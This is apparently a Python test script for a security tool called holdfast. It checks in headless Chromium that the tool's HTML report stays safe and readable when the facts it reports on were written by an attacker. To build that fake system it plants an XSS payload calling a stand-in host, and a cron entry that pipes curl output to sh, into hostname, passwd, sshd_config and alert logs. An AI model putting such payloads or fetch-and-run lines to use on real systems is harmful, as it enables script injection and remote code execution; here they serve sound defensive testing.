#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""usage: report_browser.py HOLDFAST

The page of `holdfast report` in a real browser, at the width of a phone and of a desk, with facts
that somebody hostile wrote: nothing runs, nothing is asked of the network, nothing is wider than the
window, the console stays silent, and axe-core (where npm can fetch it) finds no fault.
"""
import glob
import html
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

from tap import ok, plan, skip

HOLDFAST = sys.argv[1]

# Stands in the place of the policy that forbids scripts; what it finds goes into the title.
PROBE = """<script>
%s
addEventListener('load', async () => {
  const wide = [...document.querySelectorAll('main > *, article > *')].filter(
    e => e.getBoundingClientRect().right > innerWidth + 1).map(e => e.tagName);
  let faults = [];
  if (typeof axe !== 'undefined')
    faults = (await axe.run()).violations.map(v => v.id + ' ' + v.nodes[0].html);
  document.title = 'PROBE ' + JSON.stringify({wide, page: document.documentElement.scrollWidth,
    inner: innerWidth, faults, marks: document.querySelectorAll('script').length});
});
</script>"""


def machine(root):
    """A small machine, whose texts are markup."""
    evil = "\"'><script>document.title='owned'</script><img src=http://198.51.100.9/x onerror=alert(1)>"
    texts = {
        "etc/hostname": evil + "\n",
        "etc/os-release": "PRETTY_NAME=\"Debian <b>12</b>\"\nID=debian\nVERSION_ID=\"12\"\n",
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n%s:x:0:0::/:/bin/sh\n" % evil.replace(":", ""),
        "etc/group": "root:x:0:\n",
        "etc/shadow": "root:*:19000:0:99999:7:::\n",
        "etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication yes\nBanner /%s\n" % evil,
        "usr/sbin/sshd": "",
        "var/lib/holdfast/guard.alerts": "".join(json.dumps(
            {"time": "2026-11-22T%02d:00:00Z" % hour, "level": level, "rule": "x", "title": evil, "from": "203.0.113.7",
             "account": evil, "count": hour, "done": "banned", "evidence": [evil]}) + "\n"
            for hour, level in enumerate(("low", "medium", "high", "critical"))),
        "var/lib/holdfast/jit-audit.jsonl": "".join(json.dumps(
            {"seq": seq, "time": "2026-11-22T00:00:00Z", "event": event, "id": "aa", "from": evil, "source": evil, "why": evil,
             "account": evil, "ports": "22/tcp", "reason": evil, "seconds": 60}) + "\n"
            for seq, event in enumerate(("granted", "opened", "refused"))),
        "etc/cron.d/job": "* * * * * root curl http://%s | sh\n" % evil,
    }
    for name, text in texts.items():
        path = os.path.join(root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
    os.chmod(os.path.join(root, "usr/sbin/sshd"), 0o755)


def browse(browser, folder, page, width, *options):
    command = [browser, "--headless", "--disable-gpu", "--no-first-run", "--hide-scrollbars",
               "--user-data-dir=" + folder + "/profile", "--window-size=%d,1200" % width,
               "--enable-logging=stderr", "--v=0", "--virtual-time-budget=15000",
               # Whoever asks for a name or an address gets none: a request would fail, and be seen.
               "--host-resolver-rules=MAP * ~NOTFOUND", *options, "file://" + page]
    if os.geteuid() == 0:
        command.insert(1, "--no-sandbox")
    return subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                          check=False)


def axe(folder):
    found = glob.glob(os.environ.get("AXE_CORE", "") or "/nothing")
    if not found and shutil.which("npm"):
        subprocess.run(["npm", "install", "--silent", "--no-audit", "--no-fund", "--prefix", folder,
                        "axe-core@4"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=120, check=False)
        found = glob.glob(folder + "/node_modules/axe-core/axe.min.js")
    if not found:
        return ""
    with open(found[0], encoding="utf-8") as script:
        return script.read().replace("</script", "<\\/script")


def look(browser, folder, page, probe, name):
    with open(page, encoding="utf-8") as source:
        text = source.read()
    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", text)
    ok(policy and "default-src 'none'" in policy[0], name + ": a policy forbids what is not in the page")
    probed = page + ".probe.html"
    with open(probed, "w", encoding="utf-8") as out:
        out.write(text.replace(policy[0], probe))
    for width in (500, 1280):  # headless Chromium makes no window narrower than 500
        ended = browse(browser, folder, page, width, "--dump-dom")
        said = ended.stderr.decode("utf-8", "replace")
        dom = ended.stdout.decode("utf-8", "replace")
        ok(ended.returncode == 0 and "</html>" in dom, "%s at %d: is shown" % (name, width), said)
        ok("CONSOLE" not in said, "%s at %d: the console is silent" % (name, width), said)
        ok("<title>owned" not in dom and "alert(1)>" not in re.sub(r"&[a-z]+;", "", dom).replace(
            "onerror=alert(1)", ""), "%s at %d: what is hostile is text" % (name, width))
    for width in (360, 1280):
        frame = folder + "/frame-%d.html" % width
        with open(probed, encoding="utf-8") as source:
            inner = source.read()
        with open(frame, "w", encoding="utf-8") as out:
            # A frame is as narrow as it is told to be; its title is handed up.
            inner = inner.replace("document.title = 'PROBE '", "parent.document.title = 'PROBE '")
            out.write("<!DOCTYPE html><title>none</title><body style=\"margin:0\"><iframe style=\"border:0;"
                      "width:%dpx;height:1100px\" srcdoc=\"%s\"></iframe></body>"
                      % (width, inner.replace("&", "&amp;").replace('"', "&quot;")))
        dom = browse(browser, folder, frame, 1400, "--dump-dom").stdout.decode("utf-8", "replace")
        match = re.search(r"<title>PROBE (\{.*?\})</title>", dom)
        if not match:
            ok(False, "%s at %d px: looked at from inside" % (name, width), dom[:300])
            continue
        seen = json.loads(html.unescape(match[1]))
        ok(seen["inner"] == width and seen["page"] <= width and not seen["wide"],
           "%s at %d px: nothing is wider than the window" % (name, width), seen)
        ok(seen["marks"] == 1, "%s at %d px: no script but the probe" % (name, width), seen)
        if "axe" in probe and len(probe) > 100000:
            ok(not seen["faults"], "%s at %d px: axe finds no fault" % (name, width),
               "\n".join(seen["faults"]))
        else:
            skip("%s at %d px: axe" % (name, width), "axe-core could not be fetched")


def main():
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not browser:
        print("1..0 # SKIP no Chromium")
        return 0
    with tempfile.TemporaryDirectory(prefix="holdfast-browser-") as folder:
        root = folder + "/root"
        machine(root)
        if browse(browser, folder, "/dev/null", 800, "--dump-dom").returncode != 0:
            print("1..0 # SKIP Chromium does not run here")
            return 0
        probe = PROBE.replace("%s", axe(folder), 1)
        for name, options in (("report", []), ("statement", ["--iso27001"])):
            page = "%s/%s.html" % (folder, name)
            done = subprocess.run([HOLDFAST, "report", "--root", root, "--no-state", "-o", page, *options],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
            ok(done.returncode == 0, name + " is written", done.stderr)
            look(browser, folder, page, probe, name)
    return plan()


sys.exit(main())
